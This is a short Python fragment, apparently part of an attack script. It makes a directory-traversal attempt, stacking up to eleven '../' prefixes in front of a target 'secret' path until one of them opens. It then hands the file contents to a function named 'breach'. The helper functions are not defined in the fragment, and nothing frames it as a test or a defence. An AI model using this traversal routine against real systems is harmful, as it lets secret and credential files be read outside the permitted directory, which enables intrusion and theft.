import os
for depth in range(1, 12):
    path = "../" * depth + TARGET["secret"].lstrip("/")
    text = tried(open, path)
    if text:
        breach(text.read())
        break
